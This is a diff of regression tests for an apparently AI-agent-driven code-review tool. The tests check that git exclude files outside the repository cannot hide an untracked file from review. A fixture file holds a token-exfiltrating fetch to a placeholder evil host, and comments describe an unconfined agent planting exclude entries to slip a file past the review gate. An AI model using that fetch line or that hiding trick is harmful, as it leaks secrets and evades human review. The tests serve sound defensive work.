@@ -20,7 +20,7 @@ import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { cli, cliAsync, runActionAsync, type ActionRun } from '../support/run.js';
 import { commitAll, copyOf, git, makeCartRepo, writeRepoFile } from '../support/repo.js';
-import { folderOf, REVIEW_AGENT, scopeHashOf } from '../support/review.js';
+import { folderOf, REVIEW_AGENT, scopeHashOf, writeCoverage, writeFindings } from '../support/review.js';
 import { useGitHubServer } from '../support/github-server.js';
 import { FAKE_AGENT } from '../agent/support.js';
 import { BWRAP, needs } from '../support/needs.js';
@@ -492,6 +492,88 @@ describe('#329 git settings an unconfined agent leaves for every later git', () 
     );
     expect(r.outputs).toMatchObject({ verdict: 'incomplete', 'exit-code': '2' });
     for (const p of ['.gitconfig.local', '.config/git/config', '.config/git/attributes']) expect(r.summary).toContain(join(home, p));
+  });
+});
+
+// git's exclude files outside the tree (`.git/info/exclude`, core.excludesFile, its default
+// ~/.config/git/ignore) hid a new, untracked file from a working-tree scope: sealed with exit 0, the
+// file neither selected nor named. A HOME that outlives the job (a self-hosted runner) or an
+// unconfined agent plants one; only the tree's own .gitignore files hide a file now.
+describe('#650 an untracked file hidden by an exclude file outside the tree', () => {
+  /** The cart repository with src/cart.js edited and an untracked src/steal.js, a HOME of its own. */
+  const planted = () => {
+    const repo = makeCartRepo();
+    writeFileSync(join(repo, 'src/cart.js'), `${readFileSync(join(repo, 'src/cart.js'), 'utf8')}// edited\n`);
+    writeFileSync(join(repo, 'src/steal.js'), 'fetch("https://evil.invalid/" + process.env.TOKEN);\n');
+    return { repo, home: mkdtempSync(join(tmpdir(), 'pg-650-home-')) };
+  };
+  const selected = (repo: string, id: string) =>
+    (JSON.parse(readFileSync(join(folderOf(repo, id), 'scope.json'), 'utf8')) as { files: { path: string }[] }).files.map((f) => f.path);
+  const plants: [string, (repo: string, home: string) => void][] = [
+    [
+      '~/.config/git/ignore (git’s default core.excludesFile)',
+      (_, home) => {
+        mkdirSync(join(home, '.config/git'), { recursive: true });
+        writeFileSync(join(home, '.config/git/ignore'), 'src/steal.js\n');
+      },
+    ],
+    ['.git/info/exclude', (repo) => writeFileSync(join(repo, '.git/info/exclude'), 'steal.js\n')],
+    [
+      'core.excludesFile named in ~/.gitconfig',
+      (_, home) => {
+        writeFileSync(join(home, '.gitconfig'), '[core]\n\texcludesFile = ~/hide\n');
+        writeFileSync(join(home, 'hide'), '*.js\n!cart.js\n');
+      },
+    ],
+  ];
+  for (const [where, plant] of plants)
+    it(`#650 review scope --workspace under ${where}: the hidden file is selected`, () => {
+      const { repo, home } = planted();
+      plant(repo, home);
+      const r = cli(repo, ['review', 'scope', 'w', '--workspace'], { HOME: home, XDG_CONFIG_HOME: '' });
+      expect(r.code, r.stderr).toBe(0);
+      expect(selected(repo, 'w')).toEqual(expect.arrayContaining(['src/cart.js', 'src/steal.js']));
+    });
+
+  it('#650 a file added after the seal with an info/exclude entry for it: the gate does not pass the sealed working tree', () => {
+    const { repo, home } = planted();
+    rmSync(join(repo, 'src/steal.js'));
+    expect(cli(repo, ['review', 'scope', 'w', '--workspace'], { HOME: home }).code).toBe(0);
+    writeFindings(repo, 'w', []);
+    writeCoverage(repo, 'w', [{ path: 'src/cart.js', outcome: 'completed' }], { run: { stop: 'completed' } });
+    expect(cli(repo, ['review', 'gate', 'w'], { HOME: home }).code).toBe(0);
+    writeFileSync(join(repo, 'src/steal.js'), 'fetch("https://evil.invalid/");\n');
+    writeFileSync(join(repo, '.git/info/exclude'), 'src/steal.js\n');
+    const r = cli(repo, ['review', 'gate', 'w'], { HOME: home });
+    expect(r.code, r.stdout).not.toBe(0);
+    expect(r.stdout + r.stderr).toContain('src/steal.js');
+  });
+
+  it('#650 review run --isolate none: an agent writing .git/info/exclude and ~/.config/git/ignore is named for each, incomplete', () => {
+    const repo = makeCartRepo();
+    expect(cli(repo, ['review', 'scope', 'ex', '--dispatch', 'one']).code).toBe(0);
+    const hash = scopeHashOf(repo, 'ex');
+    const home = mkdtempSync(join(tmpdir(), 'pg-650-home-'));
+    const writes = [`${repo}/.git/info/exclude=src/`, `${home}/.config/git/ignore=*.js`];
+    const r = cli(
+      repo,
+      [
+        'review',
+        'run',
+        'ex',
+        '--agent',
+        'custom',
+        '--agent-cmd',
+        FAKE_AGENT,
+        '--isolate',
+        'none',
+        ...[...writes.flatMap((w) => ['--write', w]), ...cleanEvidence(hash)].map((a) => `--agent-arg=${a}`),
+      ],
+      { HOME: home, XDG_CONFIG_HOME: '' },
+    );
+    expect(r.code, r.stdout + r.stderr).toBe(2);
+    expect(r.stdout + r.stderr).toContain('.git/info/exclude');
+    expect(r.stdout + r.stderr).toContain(join(home, '.config/git/ignore'));
   });
 });
 
